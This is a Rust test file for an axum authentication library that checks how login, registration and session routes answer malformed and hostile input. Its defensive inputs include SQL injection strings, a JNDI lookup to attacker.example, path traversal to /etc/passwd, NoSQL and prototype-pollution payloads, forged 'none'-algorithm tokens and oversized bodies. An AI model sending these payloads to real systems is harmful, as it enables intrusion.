//! All kinds of input from strangers. Each is refused with a stable code, or has no harmful effect.
//! The answer is never a 5xx, and a refused request writes nothing.

use std::net::IpAddr;
use std::pin::Pin;
use std::task::{Context, Poll};

use axum::Router;
use axum::body::{Body, Bytes};
use axum::http::Request;
use axum::response::Response;
use http_body::Frame;
use portcullis::{Account, PeerAddr};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::on_every_database;
use crate::support::call::{Called, call, request};
use crate::support::probe::{app, serve};
use crate::support::{Browser, PASSWORD, Probe};

/// Every mounted path with the methods that it accepts.
const ROUTES: [(&str, &[&str]); 19] = [
    ("/auth/methods", &["GET", "HEAD"]),
    ("/auth/login", &["POST"]),
    ("/auth/login/mail", &["POST"]),
    ("/auth/login/mail/confirm", &["POST"]),
    ("/auth/logout", &["POST"]),
    ("/auth/reauthenticate", &["POST"]),
    ("/auth/register", &["POST"]),
    ("/auth/password", &["POST", "PUT"]),
    ("/auth/session", &["GET", "HEAD"]),
    ("/auth/session/refresh", &["POST"]),
    ("/auth/session/anonymous", &["POST"]),
    ("/auth/sessions", &["GET", "HEAD", "DELETE"]),
    ("/auth/sessions/0197f0e0-0000-7000-8000-000000000000", &["DELETE"]),
    ("/auth/sessions/end", &["POST"]),
    ("/auth/sessions/0197f0e0-0000-7000-8000-000000000000/end", &["POST"]),
    ("/auth/login-names", &["GET", "HEAD", "POST"]),
    ("/auth/login-names/confirm", &["POST", "DELETE"]),
    ("/auth/login-names/undo", &["POST", "DELETE"]),
    ("/auth/login-names/nobody", &["DELETE"]),
];

/// The routes that read a body. Each has a valid body, but with a name that does not exist.
fn with_body() -> [(&'static str, &'static str, Value); 8] {
    let new = "another horse battery staple";
    [
        ("POST", "/auth/login", json!({ "login": "nobody", "password": PASSWORD })),
        ("POST", "/auth/login/mail", json!({ "login": "nobody" })),
        ("POST", "/auth/login/mail/confirm", json!({ "code": "12345678" })),
        ("POST", "/auth/register", json!({ "username": "nobody", "password": PASSWORD })),
        ("POST", "/auth/reauthenticate", json!({ "password": PASSWORD })),
        ("POST", "/auth/login-names", json!({ "username": "nobody" })),
        ("POST", "/auth/login-names/undo", json!({ "token": "x" })),
        ("PUT", "/auth/password", json!({ "current_password": PASSWORD, "new_password": new })),
    ]
}

/// Checks that the answer is a problem as in RFC 9457, with the headers that its status needs, and
/// that the typed error is attached.
#[track_caller]
fn check_problem(answer: &Called, status: u16, code: &str, what: &str) {
    assert_eq!((answer.status, answer.code().as_str()), (status, code), "{what}: {}", answer.text);
    assert_eq!(answer.headers["content-type"], "application/problem+json", "{what}");
    assert_eq!(answer.headers["cache-control"], "no-store", "{what}");
    let body: Value = serde_json::from_str(&answer.text).expect("JSON");
    assert_eq!(body["status"], status, "{what}");
    for member in ["type", "title"] {
        assert!(body[member].as_str().is_some_and(|text| !text.is_empty()), "{what}");
    }
    assert_eq!(answer.headers.contains_key("www-authenticate"), status == 401, "{what}");
    assert_eq!(answer.headers.contains_key("retry-after"), status == 429 || status == 503);
    let rejection = answer.rejection.as_ref().expect("the typed error");
    assert_eq!(rejection.problem().code(), code, "{what}");
    assert_eq!(rejection.problem().status(), status, "{what}");
}

async fn cookie(probe: &Probe, account: &Account) -> String {
    probe.auth.test().login_as(account).cookie().await.expect("a session")
}

fn sent(
    method: &str,
    path: &str,
    cookie: Option<&str>,
    media_types: &[&[u8]],
    body: impl Into<Body>,
) -> Request<Body> {
    let mut request = request(method, path).header("sec-fetch-site", "same-origin");
    if let Some(cookie) = cookie {
        request = request.header("cookie", cookie);
    }
    for media_type in media_types {
        request = request.header("content-type", *media_type);
    }
    request.body(body.into()).expect("a request")
}

fn json_body(method: &str, path: &str, cookie: Option<&str>, body: &Value) -> Request<Body> {
    sent(method, path, cookie, &[b"application/json"], body.to_string())
}

/// Returns a body of this many KiB that does not state its length.
fn endless(chunks: usize) -> Body {
    Body::new(Chunks(chunks))
}

struct Chunks(usize);

impl http_body::Body for Chunks {
    type Data = Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        _: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Self::Error>>> {
        let Some(left) = self.0.checked_sub(1) else { return Poll::Ready(None) };
        self.0 = left;
        Poll::Ready(Some(Ok(Frame::data(Bytes::from_static(&[b' '; 1024])))))
    }
}

on_every_database! {
    async fn a_body_of_another_kind_is_refused_before_it_is_read(probe: Probe) {
        let alice = probe.register("alice").await;
        let cookie = cookie(&probe, &alice).await;
        let app = app(&probe.auth);
        let before = probe.rows().await;
        for (method, path, body) in with_body() {
            for media_types in [
                &[][..],
                &[b"" as &[u8]],
                &[b"text/plain"],
                &[b"text/plain; application/json"],
                &[b"text/json"],
                &[b"application/jsonp"],
                &[b"application/merge-patch+json"],
                &[b"application/json, text/plain"],
                &[b"application/json; charset=utf-16"],
                &[b"application/json; charset=iso-8859-1"],
                &[b"application/json; boundary=x"],
                &[b"multipart/form-data; boundary=x"],
                &[b"application/xml"],
                &[b"*/*"],
                &[b"application/\xffjson"],
                &[b"application/json", b"application/json"],
                &[b"application/json", b"text/plain"],
                &[b"text/plain", b"application/json"],
            ] {
                let request = sent(method, path, Some(&cookie), media_types, body.to_string());
                let answer = call(&app, request).await;
                let what = format!("{method} {path} {media_types:?}");
                check_problem(&answer, 415, "unsupported_media_type", &what);
            }
        }
        assert_eq!(probe.rows().await, before);
        for media_type in [
            &b"application/json"[..],
            b"APPLICATION/JSON",
            b"application/json; charset=utf-8",
            b"application/json;charset=\"UTF-8\"",
            b"application/json ; ",
        ] {
            let body = json!({ "login": "alice", "password": PASSWORD }).to_string();
            let request = sent("POST", "/auth/login", None, &[media_type], body);
            assert_eq!(call(&app, request).await.status, 200, "{media_type:?}");
        }
    }

    async fn a_body_that_is_not_the_json_it_should_be_is_400(probe: Probe) {
        let alice = probe.register("alice").await;
        let cookie = cookie(&probe, &alice).await;
        let app = app(&probe.auth);
        let before = (probe.rows().await, probe.auth.password_hashes());
        let deep = |open: &str, close: &str| {
            format!("{{\"password\":{}{}}}", open.repeat(2000), close.repeat(2000)).into_bytes()
        };
        for body in [
            b"".to_vec(),
            b" ".to_vec(),
            b"{".to_vec(),
            b"}".to_vec(),
            b"{}".to_vec(),
            b"{} {}".to_vec(),
            b"{},".to_vec(),
            b"null".to_vec(),
            b"true".to_vec(),
            b"0".to_vec(),
            b"\"alice\"".to_vec(),
            b"[]".to_vec(),
            b"[{}]".to_vec(),
            b"[\"alice\",\"correct horse battery staple\",true,\"cookie\"]".to_vec(),
            b"[\"alice\",null,null,\"correct horse battery staple\",true,\"cookie\"]".to_vec(),
            b"[null,\"correct horse battery staple\",null]".to_vec(),
            b"[\"correct horse battery staple\"]".to_vec(),
            b"\xef\xbb\xbf{\"password\":\"x\"}".to_vec(),
            b"\x00{\"password\":\"x\"}".to_vec(),
            b"{'password':'x'}".to_vec(),
            b"{password:\"x\"}".to_vec(),
            b"{\"password\":\"x\",}".to_vec(),
            b"/**/{\"password\":\"x\"}".to_vec(),
            b"{\"password\":NaN}".to_vec(),
            b"{\"password\":\"\xff\xfe\"}".to_vec(),
            b"{\"password\":\"\xed\xa0\x80\"}".to_vec(),
            b"{\"password\":\"\\ud800\"}".to_vec(),
            b"{\"password\":\"\\x41\"}".to_vec(),
            b"{\"password\":\"a\nb\"}".to_vec(),
            b"{\"password\":\"nul\x00nul\"}".to_vec(),
            b"{\"password\":null}".to_vec(),
            b"{\"password\":1}".to_vec(),
            b"{\"password\":1e999}".to_vec(),
            b"{\"password\":[\"x\"]}".to_vec(),
            b"{\"password\":{\"$ne\":\"\"}}".to_vec(),
            b"{\"Password\":\"x\"}".to_vec(),
            b"{\"\":\"x\"}".to_vec(),
            b"{\"__proto__\":{\"superuser\":true}}".to_vec(),
            b"password=x&login=alice".to_vec(),
            b"<login>alice</login>".to_vec(),
            deep("[", "]"),
            deep("{\"a\":", "}"),
            "[".repeat(16_000).into_bytes(),
        ] {
            for (method, path, _) in with_body() {
                let request = sent(method, path, Some(&cookie), &[b"application/json"], body.clone());
                let answer = call(&app, request).await;
                let shown = body[..body.len().min(60)].escape_ascii();
                check_problem(&answer, 400, "invalid_body", &format!("{method} {path} {shown}"));
            }
        }
        assert_eq!((probe.rows().await, probe.auth.password_hashes()), before);
        for (method, path, body) in with_body() {
            let cookie = self::cookie(&probe, &alice).await;
            let answer = call(&app, json_body(method, path, Some(&cookie), &body)).await;
            assert_ne!(answer.code(), "invalid_body", "{path}: {}", answer.text);
        }
    }

    async fn a_field_that_is_missing_twice_there_unknown_or_of_another_type_is_400(probe: Probe) {
        let alice = probe.register("alice").await;
        let cookie = cookie(&probe, &alice).await;
        let app = app(&probe.auth);
        let before = (probe.rows().await, probe.auth.password_hashes());
        for (method, path, right) in with_body() {
            let right = right.as_object().expect("an object");
            let mut bodies = Vec::new();
            for (field, value) in right {
                for wrong in [
                    json!(1), json!(-1.5), json!(true), json!([]), json!([value]), json!({}),
                    json!({ field: value }),
                ] {
                    let mut body = right.clone();
                    body.insert(field.clone(), wrong);
                    bodies.push(Value::Object(body).to_string());
                }
                if field != "username" && field != "current_password" {
                    let mut body = right.clone();
                    body.remove(field);
                    bodies.push(Value::Object(body).to_string());
                }
                // The same field twice. Two parsers could use different values.
                let text = Value::Object(right.clone()).to_string();
                bodies.push(format!("{},\"{field}\":{value}}}", &text[..text.len() - 1]));
                let other = text.replacen(field.as_str(), &field.to_uppercase(), 1);
                bodies.push(other);
            }
            for unknown in ["role", "superuser", "account_id", "", "password\0", "_method", "🦀"] {
                let mut body = right.clone();
                body.insert(unknown.to_owned(), json!("x"));
                bodies.push(Value::Object(body).to_string());
            }
            for body in bodies {
                let request =
                    sent(method, path, Some(&cookie), &[b"application/json"], body.clone());
                let answer = call(&app, request).await;
                check_problem(&answer, 400, "invalid_body", &format!("{method} {path} {body}"));
                assert!(!answer.text.contains(PASSWORD), "a value is never repeated");
            }
        }
        for (path, body) in [
            ("/auth/login", json!({ "login": "alice", "password": PASSWORD, "remember": "yes" })),
            ("/auth/login", json!({ "login": "alice", "password": PASSWORD, "transport": "pigeon" })),
            ("/auth/login", json!({ "login": "alice", "password": PASSWORD, "transport": null })),
            ("/auth/login", json!({ "login": "alice", "password": PASSWORD, "transport": "Bearer" })),
            ("/auth/register", json!({ "username": "bob", "password": PASSWORD, "remember": 1 })),
            ("/auth/register", json!({ "username": "bob", "password": PASSWORD, "transport": 0 })),
            ("/auth/session/anonymous", json!({ "transport": "pigeon" })),
            ("/auth/session/anonymous", json!({ "account_id": "x" })),
            ("/auth/session/anonymous", json!([])),
        ] {
            let answer = call(&app, json_body("POST", path, None, &body)).await;
            check_problem(&answer, 400, "invalid_body", &format!("{path} {body}"));
        }
        assert_eq!((probe.rows().await, probe.auth.password_hashes()), before);
    }

    async fn a_form_is_read_as_strictly(probe: Probe) {
        probe.register("alice").await;
        let app = app(&probe.auth);
        let before = (probe.rows().await, probe.auth.password_hashes());
        let media_type = b"application/x-www-form-urlencoded";
        for body in [
            "", "&", "=", "login", "login=alice", "password=x", "login=alice&password=x&password=y",
            "login=alice&login=bob&password=x", "login=alice&password=x&role=admin",
            "login[]=alice&password=x", "login=alice&password=x&remember=maybe",
            "login=alice&password=x&transport=pigeon", "LOGIN=alice&PASSWORD=x",
            "{\"login\":\"alice\",\"password\":\"x\"}",
        ] {
            let answer = call(&app, sent("POST", "/auth/login", None, &[media_type], body)).await;
            check_problem(&answer, 400, "invalid_body", body);
        }
        assert_eq!((probe.rows().await, probe.auth.password_hashes()), before);
        for body in [
            "login=alice&password=correct+horse+battery+staple",
            "login=%61lice&password=correct%20horse%20battery%20staple&remember=false",
        ] {
            let answer = call(&app, sent("POST", "/auth/login", None, &[media_type], body)).await;
            assert_eq!(answer.status, 200, "{body}: {}", answer.text);
        }
        // Bytes that are not text cannot be anyone's name.
        let answer = call(&app, sent("POST", "/auth/login", None, &[media_type], "login=%ff&password=%00")).await;
        assert_eq!(answer.status, 401, "{}", answer.text);
    }

    async fn a_body_too_large_is_refused_whether_it_says_so_or_not(probe: Probe) {
        let alice = probe.register("alice").await;
        let cookie = cookie(&probe, &alice).await;
        let app = app(&probe.auth);
        let before = (probe.rows().await, probe.auth.password_hashes());
        for (method, path, body) in with_body() {
            let mut padded = body.to_string();
            padded.push_str(&" ".repeat(16 * 1024 + 1 - padded.len()));
            for (body, what) in [
                (Body::from(padded.clone()), "one byte too many"),
                (Body::from(" ".repeat(17 * 1024)), "17 KiB"),
                (Body::from(vec![b'a'; 10 << 20]), "10 MB"),
                (endless(17), "17 KiB without a length"),
                (endless(10 << 10), "10 MB without a length"),
            ] {
                let request = sent(method, path, Some(&cookie), &[b"application/json"], body);
                let answer = call(&app, request).await;
                check_problem(&answer, 413, "body_too_large", &format!("{method} {path} {what}"));
            }
            let mut lying = sent(method, path, Some(&cookie), &[b"application/json"], "{}");
            let length = "10485760".parse().expect("a header");
            lying.headers_mut().insert("content-length", length);
            assert_eq!(call(&app, lying).await.status, 413);
        }
        assert_eq!((probe.rows().await, probe.auth.password_hashes()), before);
        // The largest body that is accepted.
        let mut body = json!({ "login": "alice", "password": PASSWORD }).to_string();
        body.push_str(&" ".repeat(16 * 1024 - body.len()));
        let request = sent("POST", "/auth/login", None, &[b"application/json"], body);
        assert_eq!(call(&app, request).await.status, 200);
    }

    async fn a_route_without_a_body_does_not_mind_one(probe: Probe) {
        let alice = probe.register("alice").await;
        let app = app(&probe.auth);
        for media_types in [&[][..], &[b"text/plain" as &[u8]], &[b"application/x-www-form-urlencoded"]] {
            for body in [Body::empty(), Body::from("\0\u{ff}"), Body::from(vec![0; 10 << 20])] {
                let cookie = cookie(&probe, &alice).await;
                let request = sent("POST", "/auth/logout", Some(&cookie), media_types, body);
                assert_eq!(call(&app, request).await.status, 204);
            }
        }
    }

    async fn an_empty_body_of_any_type_is_none_where_none_is_needed(probe: Probe) {
        let alice = probe.register("alice").await;
        let app = app(&probe.auth);
        let json: &[&[u8]] = &[b"application/json"];
        for media_types in [&[][..], json, &[b"application/json; charset=utf-8"], &[b"text/plain"]] {
            let start = sent("POST", "/auth/session/anonymous", None, media_types, "");
            assert_eq!(call(&app, start).await.status, 201, "{media_types:?}");
            // The credentials are in a header.
            let mut login = sent("POST", "/auth/login", None, media_types, "");
            let basic = data_encoding::BASE64.encode(format!("alice:{PASSWORD}").as_bytes());
            let basic = format!("Basic {basic}").parse().expect("a header");
            login.headers_mut().insert("authorization", basic);
            assert_eq!(call(&app, login).await.status, 200, "{media_types:?}");
        }
        // A blank is a body. If a body is needed, an empty one is refused.
        let start = sent("POST", "/auth/session/anonymous", None, json, " ");
        check_problem(&call(&app, start).await, 400, "invalid_body", "a blank");
        let cookie = cookie(&probe, &alice).await;
        let prove = sent("POST", "/auth/reauthenticate", Some(&cookie), json, "");
        check_problem(&call(&app, prove).await, 400, "invalid_body", "a needed body");
    }

    async fn strange_characters_in_a_field_are_no_more_than_a_wrong_value(probe: Probe) {
        let alice = probe.register("alice").await;
        let cookie = cookie(&probe, &alice).await;
        let app = app(&probe.auth);
        let accounts = probe.rows().await[0];
        for strange in [
            "\0", "alice\0", "\0alice", "ali\0ce", "ali\nce", "ali\r\nce", "a\tlice", "\u{7f}",
            "\u{1b}[31m", "\u{85}", "\u{2028}", "a\u{202e}ecil", "\u{200b}", "a\u{feff}lice", "\u{fffe}",
            "\u{10ffff}", "' OR 1=1 --", "alice';DROP TABLE auth_account;--", "alice\\", "%00",
            "${jndi:ldap://attacker.example}", "{{7*7}}", "<script>", "../../etc/passwd",
            "alice@", "@", "a@b@c", "+", "+0", "+1234567890123456", "🦀", &"a".repeat(10_000),
        ] {
            let body = json!({ "login": strange, "password": PASSWORD });
            let answer = call(&app, json_body("POST", "/auth/login", None, &body)).await;
            check_problem(&answer, 401, "invalid_credentials", strange);
            let body = json!({ "login": "alice", "password": strange });
            let answer = call(&app, json_body("POST", "/auth/login", None, &body)).await;
            check_problem(&answer, 401, "invalid_credentials", strange);
            let body = json!({ "password": strange });
            let answer = call(&app, json_body("POST", "/auth/reauthenticate", Some(&cookie), &body)).await;
            check_problem(&answer, 403, "wrong_password", strange);
            for field in ["email", "phone"] {
                let mut body = json!({ "username": "bob", "password": PASSWORD });
                body[field] = strange.into();
                let answer = call(&app, json_body("POST", "/auth/register", None, &body)).await;
                check_problem(&answer, 422, "invalid_fields", &format!("{field} {strange}"));
            }
            let body = json!({ "username": strange, "password": PASSWORD });
            let answer = call(&app, json_body("POST", "/auth/register", None, &body)).await;
            check_problem(&answer, 422, "invalid_fields", strange);
            let body = json!({ "current_password": strange, "new_password": "another long password" });
            let answer = call(&app, json_body("PUT", "/auth/password", Some(&cookie), &body)).await;
            check_problem(&answer, 403, "wrong_password", strange);
        }
        assert_eq!(probe.rows().await[0], accounts);
        assert_eq!(call(&app, sent("GET", "/me", Some(&cookie), &[], "")).await.status, 200);
    }

    async fn an_id_that_is_none_is_an_unknown_one(probe: Probe) {
        let alice = probe.register("alice").await;
        let cookie = cookie(&probe, &alice).await;
        let app = app(&probe.auth);
        for id in [
            "1", "-1", "me", "*", "null", "undefined", "%00", "%ff", "%c3%28", "%0d%0a", "%20", "..%2f",
            "%2e%2e", "'%20OR%201=1", "0197f0e0-0000-7000-8000-00000000000",
            "0197f0e0-0000-7000-8000-0000000000000", "0197f0e0-0000-7000-8000-000000000000",
            "00000000-0000-0000-0000-000000000000", "%7B0197f0e0-0000-7000-8000-000000000000%7D",
            "urn:uuid:0197f0e0-0000-7000-8000-000000000000", "0197f0e0%2D0000",
        ]
        .map(str::to_owned)
        .into_iter()
        .chain([alice.id().to_string(), "a".repeat(60_000)])
        {
            let path = format!("/auth/sessions/{id}");
            let answer = call(&app, sent("DELETE", &path, Some(&cookie), &[], "")).await;
            check_problem(&answer, 404, "session_not_found", &path);
            let answer = call(&app, sent("DELETE", &path, None, &[], "")).await;
            check_problem(&answer, 401, "not_signed_in", &path);
        }
        for query in ["scope=everything", "scope=all&scope=others", "SCOPE=all", "scope", "scope=", "x", "scope=al%6c", "%ff"] {
            let path = format!("/auth/sessions?{query}");
            let answer = call(&app, sent("DELETE", &path, Some(&cookie), &[], "")).await;
            check_problem(&answer, 400, "invalid_body", &path);
        }
        assert_eq!(call(&app, sent("GET", "/me", Some(&cookie), &[], "")).await.status, 200);
        let id = call(&app, sent("GET", "/session-id", Some(&cookie), &[], "")).await.text;
        let request = sent("DELETE", &format!("/auth/sessions/{id}"), Some(&cookie), &[], "");
        assert_eq!(call(&app, request).await.status, 204);
    }

    async fn a_method_that_a_path_does_not_take_is_405(probe: Probe) {
        let alice = probe.register("alice").await;
        let cookie = cookie(&probe, &alice).await;
        let app = app(&probe.auth);
        let before = probe.rows().await;
        for (path, taken) in ROUTES {
            for method in [
                "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND",
                "QUERY", "get", "post", "BREW",
            ] {
                if taken.contains(&method) {
                    continue;
                }
                let request = sent(method, path, Some(&cookie), &[b"application/json"], "{}");
                let answer = call(&app, request).await;
                let what = format!("{method} {path}");
                if method == "HEAD" {
                    assert_eq!((answer.status, answer.text.as_str()), (405, ""), "{what}");
                } else {
                    check_problem(&answer, 405, "method_not_allowed", &what);
                }
                let allow = answer.headers["allow"].to_str().expect("ASCII");
                assert_eq!(allow.split(',').collect::<Vec<_>>().len(), taken.len(), "{what} {allow}");
                assert!(taken.iter().all(|method| allow.contains(method)), "{what}: {allow}");
            }
        }
        assert_eq!(probe.rows().await, before);
        assert_eq!(call(&app, sent("GET", "/me", Some(&cookie), &[], "")).await.status, 200);
    }

    async fn another_spelling_of_a_path_is_another_path(probe: Probe) {
        let alice = probe.register("alice").await;
        let cookie = cookie(&probe, &alice).await;
        let app = app(&probe.auth);
        let before = probe.rows().await;
        let body = json!({ "login": "alice", "password": PASSWORD });
        for path in [
            "//auth/login", "/auth//login", "///auth///login", "/./auth/login", "/auth/./login",
            "/auth/../auth/login", "/x/../auth/login", "/auth/login/", "/auth/login//", "/auth/login/.",
            "/AUTH/login", "/auth/LOGIN", "/Auth/Login", "/auth%2flogin", "/auth%2Flogin",
            "/%61uth/login", "/auth/%6cogin", "/auth/login%00", "/auth/login%20", "/auth/login%2f",
            "/auth/login;x=1", "/auth/login.json", "/auth/login%3fx", "/auth/login%23", "/auth\\login",
            "/auth/login%0a", "/auth/%2e/login", "/auth/%2e%2e/auth/login", "/%2fauth/login", "/login",
        ] {
            if path.parse::<axum::http::Uri>().is_err() {
                continue;
            }
            let answer = call(&app, json_body("POST", path, None, &body)).await;
            assert_eq!(answer.status, 404, "{path}: {}", answer.text);
            assert!(!answer.headers.contains_key("set-cookie"), "{path}");
        }
        for path in [
            "//admin", "/./admin", "/admin/", "/admin//", "/ADMIN", "/Admin", "/%61dmin", "/admin%20",
            "/admin%2f", "/admin/.", "/admin/..;/", "/admin;x", "/x/../admin", "/public/../admin",
            "/public/%2e%2e/admin", "/public%2f..%2fadmin", "/docs/../admin", "/auth/../admin",
        ] {
            for cookie in [None, Some(cookie.as_str())] {
                let answer = call(&app, sent("GET", path, cookie, &[], "")).await;
                assert_eq!(answer.status, 404, "{path}: {}", answer.text);
            }
        }
        assert_eq!(probe.rows().await, before);
        // A query does not change the path, and a header does not change the method.
        for (method, path, header) in [
            ("GET", "/admin?x=1", None),
            ("GET", "/admin?_method=OPTIONS", None),
            ("GET", "/admin", Some("x-http-method-override")),
            ("GET", "/admin", Some("x-http-method")),
            ("GET", "/public", Some("x-original-url")),
            ("GET", "/public", Some("x-rewrite-url")),
        ] {
            let mut request = sent(method, path, Some(&cookie), &[], "");
            if let Some(header) = header {
                let value = if header.ends_with("url") { "/admin" } else { "OPTIONS" };
                request.headers_mut().insert(header, value.parse().expect("a header"));
            }
            let answer = call(&app, request).await;
            let expected = if path.starts_with("/admin") { 403 } else { 200 };
            assert_eq!(answer.status, expected, "{path} {header:?}");
            assert!(answer.text == "public" || answer.code() == "denied");
        }
    }

    async fn any_user_agent_and_any_address_is_kept_as_far_as_it_fits(probe: Probe) {
        let app = app(&probe.auth);
        for (number, (agent, peer, shown)) in [
            (&b"curl/8.5.0"[..], "192.0.2.7", "192.0.2.7"),
            (&[b'a'; 300], "2001:db8::1", "2001:db8::1"),
            ("🦀".repeat(300).as_bytes(), "2001:db8:ffff:ffff:ffff:ffff:255.255.255.255", "2001:db8:ffff:ffff:ffff:ffff:ffff:ffff"),
            (b"\xff\xfe\xfd", "::1", "::1"),
            (b"\xc3\x28 \xf0\x9f", "::ffff:192.0.2.7", "192.0.2.7"),
            ("\u{202e}evil\u{85}line".as_bytes(), "fe80::1", "fe80::1"),
            (b"", "::", "::"),
            (b"' OR 1=1; DROP TABLE auth_session; --", "0.0.0.0", "0.0.0.0"),
        ]
        .into_iter()
        .enumerate()
        {
            let name = format!("user-{number}");
            probe.register(&name).await;
            let body = json!({ "login": name, "password": PASSWORD });
            let peer: IpAddr = peer.parse().expect("an address");
            let from = |mut request: Request<Body>| {
                let value = axum::http::HeaderValue::from_bytes(agent).expect("a header");
                request.headers_mut().insert("user-agent", value);
                request.extensions_mut().insert(PeerAddr(peer));
                request
            };
            let answer = call(&app, from(json_body("POST", "/auth/login", None, &body))).await;
            assert_eq!(answer.status, 200, "{}", answer.text);
            let cookie = answer.headers["set-cookie"].to_str().expect("ASCII");
            let cookie = cookie.split(';').next().expect("a pair").to_owned();
            let list = call(&app, from(sent("GET", "/auth/sessions", Some(&cookie), &[], ""))).await;
            let list: Value = serde_json::from_str(&list.text).expect("JSON");
            let session = list["sessions"].as_array().expect("a list");
            let session = session.iter().find(|s| s["current"] == true).expect("this session");
            assert_eq!(session["address"], shown);
            let agent = session["user_agent"].as_str().unwrap_or_default();
            assert!(agent.len() <= 256 && !agent.chars().any(char::is_control), "{agent:?}");
            assert!(!agent.contains('\u{202e}'));
            let answer = call(&app, from(sent("POST", "/auth/logout", Some(&cookie), &[], ""))).await;
            assert_eq!(answer.status, 204);
        }
    }

    async fn a_credential_that_is_rubbish_costs_no_statement(probe: Probe) {
        let probe = probe.configured(|config| config.service.bearer = true);
        let app = app(&probe.auth);
        let mut rubbish: Vec<Vec<u8>> = [
            &b""[..], b".", "..".as_bytes(), b"...", b"a.b.c", b"null", b"\"\"", b"\xff\xfe", b"%00",
            b"eyJhbGciOiJub25lIn0.e30.", b"eyJhbGciOiJub25lIn0.eyJzaWQiOiJ4In0.",
        ]
        .map(<[u8]>::to_vec)
        .to_vec();
        rubbish.push(vec![b'a'; 1 << 20]);
        rubbish.push([b"eyJhbGciOiJIUzI1NiJ9.", &[b'a'; 1 << 20][..], b".AAAA"].concat());
        rubbish.push(".".repeat(10_000).into_bytes());
        for value in &rubbish {
            let shown = value[..value.len().min(40)].escape_ascii().to_string();
            for (header, prefix) in [("cookie", &b"__Host-session="[..]), ("authorization", b"Bearer ")] {
                let value = [prefix, value].concat();
                let value = axum::http::HeaderValue::from_bytes(&value).expect("a header");
                for (method, path, status) in
                    [("GET", "/me", 401), ("GET", "/maybe", 200), ("GET", "/admin", 401), ("POST", "/auth/logout", 204)]
                {
                    let mut request = sent(method, path, None, &[], "");
                    request.headers_mut().insert(header, value.clone());
                    let (answer, statements) = probe.statements(call(&app, request)).await;
                    let what = format!("{path} {header} {shown}");
                    assert_eq!((answer.status, statements), (status, 0), "{what}: {}", answer.text);
                }
            }
        }
    }

    async fn a_huge_basic_header_is_a_wrong_password(probe: Probe) {
        probe.register("alice").await;
        let app = app(&probe.auth);
        for credentials in [format!("alice:{}", "a".repeat(1 << 20)), format!("{}:x", "a".repeat(1 << 20))] {
            let encoded = data_encoding::BASE64.encode(credentials.as_bytes());
            let mut request = sent("POST", "/auth/login", None, &[], "");
            let value = format!("Basic {encoded}").parse().expect("a header");
            request.headers_mut().insert("authorization", value);
            check_problem(&call(&app, request).await, 401, "invalid_credentials", "1 MB");
        }
    }

    async fn a_server_outlives_what_a_stranger_sends_it(probe: Probe) {
        probe.register("alice").await;
        let address = serve(app(&probe.auth)).await;
        let huge = format!("GET /me HTTP/1.1\r\nhost: a\r\ncookie: {}\r\n\r\n", "a".repeat(1 << 20));
        for (bytes, expected) in [
            (&b"POST /auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 10485760\r\n\r\n"[..], "HTTP/1.1 413"),
            (b"POST /auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 5\r\nconnection: close\r\n\r\n{\"a\":", "HTTP/1.1 400"),
            (b"GET /auth/login\r\n\r\n", "HTTP/1.1 400"),
            (b"GET /auth/session HTTP/1.1\r\nhost: a\r\nbad header\r\n\r\n", "HTTP/1.1 400"),
            (huge.as_bytes(), "HTTP/1.1 4"),
        ] {
            let mut stream = tokio::net::TcpStream::connect(address).await.expect("it listens");
            // The server may answer and close the connection before it has read everything.
            let _ = stream.write_all(bytes).await;
            let mut start = vec![0; 12];
            if stream.read_exact(&mut start).await.is_ok() {
                let start = String::from_utf8_lossy(&start).into_owned();
                assert!(start.starts_with(expected), "{start} for {}", bytes[..40.min(bytes.len())].escape_ascii());
            }
        }
        let mut browser = Browser::new(address);
        assert_eq!(browser.login("alice", PASSWORD).await.status, 200);
    }

    async fn an_outer_layer_can_restyle_a_refusal(probe: Probe) {
        use axum::response::IntoResponse;

        async fn restyle(response: Response) -> Response {
            match response.extensions().get::<portcullis::Rejection>() {
                Some(rejection) => {
                    let problem = rejection.problem();
                    (problem.status(), format!("<h1>{}</h1>", problem.code())).into_response()
                }
                None => response,
            }
        }
        let app: Router = app(&probe.auth).layer(axum::middleware::map_response(restyle));
        let answer = call(&app, sent("GET", "/me", None, &[], "")).await;
        assert_eq!((answer.status, answer.text.as_str()), (401, "<h1>not_signed_in</h1>"));
        let answer = call(&app, sent("POST", "/auth/login", None, &[], "")).await;
        assert_eq!((answer.status, answer.text.as_str()), (415, "<h1>unsupported_media_type</h1>"));
        let answer = call(&app, sent("GET", "/public", None, &[], "")).await;
        assert_eq!((answer.status, answer.text.as_str()), (200, "public"));
    }
}
